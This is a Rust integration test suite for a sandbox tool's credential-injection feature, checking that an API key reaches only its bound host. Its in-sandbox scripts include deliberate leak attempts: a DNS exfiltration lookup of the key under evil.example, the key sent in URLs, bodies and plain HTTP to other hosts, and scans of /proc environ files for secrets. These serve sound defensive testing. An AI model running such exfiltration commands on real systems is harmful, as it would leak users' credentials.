//! Secretless credentials (`--credential`, docs/credentials.md) in the fake internet: the real
//! key reaches only the host it is bound to, on the wire; inside the sandbox there is only a
//! placeholder, and a placeholder sent elsewhere arrives unchanged and is reported.

use std::process::Stdio;

use crate::networld::*;
use crate::require_root;
use crate::support::*;

/// HTTPS with the world's test CA on 9443, HTTPS with a certificate from a CA nobody trusts on
/// 9444 and plain HTTP on 9080 (all addresses): each request (port, method, path, headers,
/// body) is appended to a log the sandbox cannot see; the answer is only "ok".
const ECHO_PY: &str = r#"
import http.server, socket, ssl, sys, threading
log, cert, key, bad_cert, bad_key = sys.argv[1:6]
lock = threading.Lock()
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def answer(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        if self.path == "/upload":
            body = ("len=%d sum=%d" % (len(body), sum(body[::4096]))).encode()
        with lock, open(log, "a") as f:
            f.write("%d %s %s\n%s%s\n--\n" % (self.server.server_port, self.command, self.path,
                    str(self.headers), body.decode("latin-1")))
        out = b"ok\n"
        if self.path == "/reflect":
            out = ("reflected %s\n" % self.headers.get("x-api-key", "")).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = answer
    def log_message(self, *a):
        pass
class S(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
    daemon_threads = True
    def server_bind(self):
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        super().server_bind()
def tls(port, c, k):
    s = S(("::", port), H)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(c, k)
    s.socket = ctx.wrap_socket(s.socket, server_side=True)
    return s
for s in (tls(9443, cert, key), tls(9444, bad_cert, bad_key), S(("::", 9080), H)):
    threading.Thread(target=s.serve_forever, daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
"#;

struct Echo {
    /// Outside every sandbox's view (not under the world's directory, which is at /world).
    dir: tempfile::TempDir,
}

impl Echo {
    fn start(w: &mut World) -> Echo {
        let dir = tempfile::Builder::new()
            .prefix("nsb-cred-")
            .tempdir()
            .expect("temp dir");
        let d = dir.path().display().to_string();
        let script = format!(
            "set -e; cd '{d}'; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout bad.key -out bad.pem -days 2 -subj '/CN=web.allowed.example' -addext subjectAltName=DNS:web.allowed.example 2>/dev/null"
        );
        let ok = std::process::Command::new("sh")
            .arg("-c")
            .arg(script)
            .status()
            .expect("openssl");
        assert!(ok.success());
        let wd = w.dir.path().display().to_string();
        let (log, cert, key) = (
            format!("{d}/requests.log"),
            format!("{wd}/server.pem"),
            format!("{wd}/server.key"),
        );
        let (bad_cert, bad_key) = (format!("{d}/bad.pem"), format!("{d}/bad.key"));
        let ns = w.inet_ns.clone();
        w.spawn_server(
            &ns,
            &[
                "/usr/bin/python3",
                "-c",
                ECHO_PY,
                &log,
                &cert,
                &key,
                &bad_cert,
                &bad_key,
            ],
        );
        Echo { dir }
    }

    /// The request whose first line has `path`, as the server received it.
    fn request(&self, path: &str) -> String {
        let log = std::fs::read_to_string(self.dir.path().join("requests.log")).unwrap_or_default();
        log.split("\n--\n")
            .find(|r| r.lines().next().is_some_and(|l| l.contains(path)))
            .unwrap_or_else(|| panic!("no request for {path} in:\n{log}"))
            .to_string()
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("requests.log")).unwrap_or_default()
    }
}

/// A value no file or program here contains by chance.
fn real_key() -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!("sk-real-{}x{nanos}", std::process::id())
}

/// A grep pattern that matches `key` but not itself (its own command line is readable too).
fn pattern(key: &str) -> String {
    let (head, last) = key.split_at(key.len() - 1);
    format!("{head}[{last}]")
}

fn command(w: &World, key: &str, extra: &[&str], script: &str) -> std::process::Command {
    let flags = w.filtered_flags();
    let mut args: Vec<&str> = vec!["exec", "--json"];
    args.extend(flags.iter().map(String::as_str));
    args.extend_from_slice(extra);
    args.extend_from_slice(&["--", "sh", "-c", script]);
    let mut cmd = w.nsbox_cmd(&args);
    cmd.env("LLM_KEY", key)
        .env(
            "NSBOX_EGRESS_CA_FILE",
            w.dir.path().join("ca.pem").display().to_string(),
        )
        .stdin(Stdio::null());
    cmd
}

fn run(w: &World, key: &str, extra: &[&str], script: &str) -> Run {
    command(w, key, extra, script)
        .output()
        .expect("run nsbox")
        .into()
}

/// The workload's stdout from `--json` output events.
fn output(events: &[serde_json::Value]) -> String {
    events
        .iter()
        .filter(|e| e["type"] == "stdout")
        .filter_map(|e| e["data"].as_str())
        .collect()
}

#[test]
fn credential_real_key_reaches_only_its_host_and_never_the_sandbox() {
    require_root!();
    let mut w = World::start();
    let echo = Echo::start(&mut w);
    let key = real_key();
    let pat = pattern(&key);
    let script = format!(
        r#"echo "env=$LLM_KEY"
curl -sS -m 10 -H "x-api-key: $LLM_KEY" -H "Authorization: Bearer $LLM_KEY" https://web.allowed.example:9443/v1/messages
curl -sS -m 10 "https://web.allowed.example:9443/inurl?k=$LLM_KEY"
curl -sS -m 10 -u "x-access-token:$LLM_KEY" https://web.allowed.example:9443/basic
python3 -c 'import os, urllib.request as u; r = u.Request("https://web.allowed.example:9443/py", headers={{"x-api-key": os.environ["LLM_KEY"]}}); print(u.urlopen(r, timeout=10).read().decode(), end="")'
curl -sS -m 10 -H "x-api-key: $LLM_KEY" http://cdn.allowed.example:9080/plain
curl -sS -m 10 --cacert /world/ca.pem -H "x-api-key: $LLM_KEY" https://cdn.allowed.example:9443/otherhost
curl -sS -m 10 --data "k=$LLM_KEY" https://web.allowed.example:9443/inbody
getent hosts "$LLM_KEY.evil.example" >/dev/null
curl -sS -m 10 --compressed -H "x-api-key: $LLM_KEY" https://web.allowed.example:9443/reflect
node -e 'fetch("https://web.allowed.example:9443/node", {{headers: {{"x-api-key": process.env.LLM_KEY}}}}).then(r => r.text()).then(t => process.stdout.write(t), e => {{ console.error(e); process.exit(1) }})'
head -c 8388608 /dev/zero | tr '\0' 'a' | curl -sS -m 60 --data-binary @- -H "x-api-key: $LLM_KEY" https://web.allowed.example:9443/upload
git clone -q https://web.allowed.example/repo.git /tmp/repo && echo "git=$(cat /tmp/repo/README)"
echo "found=$( (env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline) 2>/dev/null | tr '\0' '\n' | grep -c '{pat}')"
echo "files=$(grep -rIl '{pat}' /etc /sandbox /tmp /root /home /run /var /world 2>/dev/null | wc -l)"
echo "bundle=$SSL_CERT_FILE $(grep -c 'BEGIN CERTIFICATE' $SSL_CERT_FILE)"
"#
    );
    let r = run(
        &w,
        &key,
        &[
            "--allow",
            "web.allowed.example",
            "--allow",
            "cdn.allowed.example",
            "--credential",
            "LLM_KEY=web.allowed.example",
            "--env",
            "HOME=/tmp",
        ],
        &script,
    );
    assert_eq!(r.code, 0, "{r:?}");
    // Nothing nsbox printed holds the value (not even masked: it never came back).
    assert!(
        !r.stdout.contains(&key) && !r.stderr.contains(&key),
        "{r:?}"
    );
    let events = events(&r.stdout);
    let out = output(&events);
    let placeholder = out
        .lines()
        .find_map(|l| l.strip_prefix("env="))
        .unwrap_or_else(|| panic!("{out}"))
        .to_string();
    assert!(
        placeholder.starts_with("nsbox-cred-llm_key-"),
        "{placeholder}"
    );
    assert!(out.contains("found=0\n"), "{out}");
    assert!(out.contains("files=0\n"), "{out}");
    // Node's fetch trusts the sandbox CA through NODE_EXTRA_CA_CERTS; an 8 MiB body arrives
    // whole.
    let node = echo.request("/node");
    assert!(
        node.to_lowercase().contains(&format!("x-api-key: {key}\n")),
        "{node}"
    );
    let upload = echo.request("/upload");
    assert!(
        upload.contains(&format!("len={} sum={}", 8 << 20, 2048 * 97)),
        "{upload}"
    );
    // A server reflecting the key hands the sandbox asterisks.
    let stars = "*".repeat(key.len());
    assert!(out.contains(&format!("reflected {stars}\n")), "{out}");
    // Asked uncompressed, so the mask sees what the server sends.
    let reflect = echo.request("/reflect");
    assert!(reflect.contains("Accept-Encoding: identity\n"), "{reflect}");
    assert!(!reflect.contains("gzip"), "{reflect}");
    // git (many requests, one connection each) trusts the sandbox CA with no flags.
    assert!(out.contains("git=cloned through nsbox\n"), "{out}");
    assert!(out.contains("bundle=/etc/nsbox-ca-bundle.pem "), "{out}");
    assert_eq!(out.matches("ok\n").count(), 9, "{out}");

    // The bound host got the real key in both headers, over TLS curl trusted with no flags.
    let api = echo.request("/v1/messages");
    assert!(api.contains(&format!("x-api-key: {key}\n")), "{api}");
    assert!(
        api.contains(&format!("Authorization: Bearer {key}\n")),
        "{api}"
    );
    // Inside Basic auth's base64 (as git sends a token), and from Python with no CA flag.
    let basic = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        format!("x-access-token:{key}"),
    );
    let b = echo.request("/basic");
    assert!(
        b.contains(&format!("Authorization: Basic {basic}\n")),
        "{b}"
    );
    let py = echo.request("/py");
    assert!(
        py.to_lowercase().contains(&format!("x-api-key: {key}\n")),
        "{py}"
    );
    // In the URL, and to another host (plain or end-to-end TLS), only the placeholder went.
    assert!(echo.request("/inurl").contains(&placeholder));
    assert!(echo
        .request("/inbody")
        .contains(&format!("k={placeholder}")));
    assert!(echo
        .request("/plain")
        .contains(&format!("x-api-key: {placeholder}")));
    assert!(echo
        .request("/otherhost")
        .contains(&format!("x-api-key: {placeholder}")));
    assert_eq!(echo.log().matches(&key).count(), 6, "{}", echo.log());

    let has = |ty: &str, host: &str, field: &str, value: &str| {
        events.iter().any(|e| {
            e["type"] == ty
                && e["credential"] == "LLM_KEY"
                && e["host"] == host
                && e[field] == value
        })
    };
    assert!(
        has(
            "credential_injected",
            "web.allowed.example",
            "header",
            "x-api-key"
        ),
        "{events:#?}"
    );
    assert!(
        has(
            "credential_injected",
            "web.allowed.example",
            "header",
            "authorization"
        ),
        "{events:#?}"
    );
    assert!(
        has("credential_refused", "web.allowed.example", "place", "url"),
        "{events:#?}"
    );
    assert!(
        has("credential_refused", "web.allowed.example", "place", "body"),
        "{events:#?}"
    );
    assert!(
        has("credential_refused", "the resolver", "place", "dns name"),
        "{events:#?}"
    );
    assert!(
        has(
            "credential_refused",
            "cdn.allowed.example",
            "place",
            "plain http"
        ),
        "{events:#?}"
    );
}

#[test]
fn credential_upstream_with_an_unknown_ca_is_refused() {
    require_root!();
    let mut w = World::start();
    let echo = Echo::start(&mut w);
    let key = real_key();
    let r = run(
        &w,
        &key,
        &[
            "--allow",
            "web.allowed.example",
            "--credential",
            "LLM_KEY=web.allowed.example",
        ],
        r#"curl -sS -m 10 -H "x-api-key: $LLM_KEY" https://web.allowed.example:9444/impostor; echo "code=$?""#,
    );
    assert_eq!(r.code, 0, "{r:?}");
    let events = events(&r.stdout);
    let out = output(&events);
    assert!(
        out.contains("nsbox: refused: upstream web.allowed.example"),
        "{out}"
    );
    // Nothing reached the impostor, and the failure is reported.
    assert!(!echo.log().contains("/impostor"), "{}", echo.log());
    assert!(
        events.iter().any(|e| e["type"] == "connection"
            && e["decision"] == "failed"
            && e["port"] == 9444
            && e["reason"]
                .as_str()
                .is_some_and(|r| r.contains("certificate"))),
        "{events:#?}"
    );
    assert!(!r.stdout.contains(&key) && !r.stderr.contains(&key));

    // A certificate from the trusted CA but for other names: refused too.
    let r = run(
        &w,
        &key,
        &[
            "--allow",
            "goodalias.allowed.example",
            "--allow",
            "web.allowed.example",
            "--credential",
            "LLM_KEY=goodalias.allowed.example",
        ],
        r#"curl -sS -m 10 -H "x-api-key: $LLM_KEY" https://goodalias.allowed.example:9443/wrongname"#,
    );
    let events = crate::support::events(&r.stdout);
    let out = output(&events);
    assert!(
        out.contains("nsbox: refused: upstream goodalias.allowed.example"),
        "{r:?}"
    );
    assert!(!echo.log().contains("/wrongname"), "{}", echo.log());
}

/// Two sandboxes alive at once with different values for the same host each send their own.
#[test]
fn credential_two_sandboxes_send_their_own_values_to_the_same_host() {
    require_root!();
    let mut w = World::start();
    let echo = Echo::start(&mut w);
    let keys = [
        format!("{}-first", real_key()),
        format!("{}-second", real_key()),
    ];
    let children: Vec<_> = keys
        .iter()
        .enumerate()
        .map(|(i, key)| {
            // The pause makes the two sandboxes' proxies likely to be alive at once; nothing
            // depends on it.
            let script = format!(
                r#"sleep 1; curl -sS -m 10 -H "x-api-key: $LLM_KEY" https://web.allowed.example:9443/two{i}"#
            );
            command(
                &w,
                key,
                &[
                    "--allow",
                    "web.allowed.example",
                    "--credential",
                    "LLM_KEY=web.allowed.example",
                ],
                &script,
            )
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("start nsbox")
        })
        .collect();
    for child in children {
        let r: Run = child.wait_with_output().expect("nsbox").into();
        assert_eq!(r.code, 0, "{r:?}");
    }
    for (i, key) in keys.iter().enumerate() {
        let got = echo.request(&format!("/two{i}"));
        assert!(got.contains(&format!("x-api-key: {key}\n")), "{got}");
        let other = &keys[1 - i];
        assert!(!got.contains(other.as_str()), "{got}");
    }
}

/// A session made with `create --credential` injects in every command, and neither its
/// commands nor the files nsbox keeps for it (logs, state) hold the value.
#[test]
fn credential_session_injects_and_keeps_the_value_out_of_its_files() {
    require_root!();
    let mut w = World::start();
    let echo = Echo::start(&mut w);
    let key = real_key();
    let run_dir = tempfile::tempdir().unwrap();
    let ca = w.dir.path().join("ca.pem").display().to_string();
    let nsbox = |args: &[&str]| -> Run {
        w.nsbox_cmd(args)
            .env("NSBOX_RUN_DIR", run_dir.path())
            .env("LLM_KEY", &key)
            .env("NSBOX_EGRESS_CA_FILE", &ca)
            .stdin(Stdio::null())
            .output()
            .expect("run nsbox")
            .into()
    };
    let mut create: Vec<String> = vec!["create".into()];
    create.extend(w.filtered_flags());
    create.extend(
        [
            "--allow",
            "web.allowed.example",
            "--credential",
            "LLM_KEY=web.allowed.example",
            "--log-network",
        ]
        .map(String::from),
    );
    let args: Vec<&str> = create.iter().map(String::as_str).collect();
    let r = nsbox(&args);
    assert_eq!(r.code, 0, "{r:?}");
    let id = r.stdout.trim().to_string();
    let _rm = RmOnDrop {
        w: &w,
        run_dir: run_dir.path(),
        id: id.clone(),
    };
    for n in 1..=2 {
        let r = nsbox(&[
            "exec",
            "--session",
            &id,
            "--",
            "sh",
            "-c",
            &format!(
                r#"curl -sS -m 10 -H "Authorization: Bearer $LLM_KEY" https://web.allowed.example:9443/session{n}"#
            ),
        ]);
        assert_eq!(r.stdout, "ok\n", "{r:?}");
        let got = echo.request(&format!("/session{n}"));
        assert!(
            got.contains(&format!("Authorization: Bearer {key}\n")),
            "{got}"
        );
    }
    let session_dir = run_dir.path().join("sessions").join(&id);
    let log_path = session_dir.join("network.log");
    assert!(
        eventually(5.0, || std::fs::read_to_string(&log_path)
            .is_ok_and(|l| l.contains("credential_injected"))),
        "{:?}",
        std::fs::read_to_string(&log_path)
    );
    // Whatever nsbox keeps for the session (state, logs, the network log) is free of it.
    let mut files = 0;
    let mut stack = vec![run_dir.path().to_path_buf()];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
            let path = e.path();
            if path.is_dir() && !path.is_symlink() {
                stack.push(path);
            } else if let Ok(bytes) = std::fs::read(&path) {
                files += 1;
                assert!(
                    !String::from_utf8_lossy(&bytes).contains(&key),
                    "{} holds the value",
                    path.display()
                );
            }
        }
    }
    assert!(files > 0);
}

/// Removes a session however the test ends (a failed assertion must not leave it running).
struct RmOnDrop<'a> {
    w: &'a World,
    run_dir: &'a std::path::Path,
    id: String,
}

impl Drop for RmOnDrop<'_> {
    fn drop(&mut self) {
        let _ = self
            .w
            .nsbox_cmd(&["rm", "-f", &self.id])
            .env("NSBOX_RUN_DIR", self.run_dir)
            .stdin(Stdio::null())
            .output();
    }
}
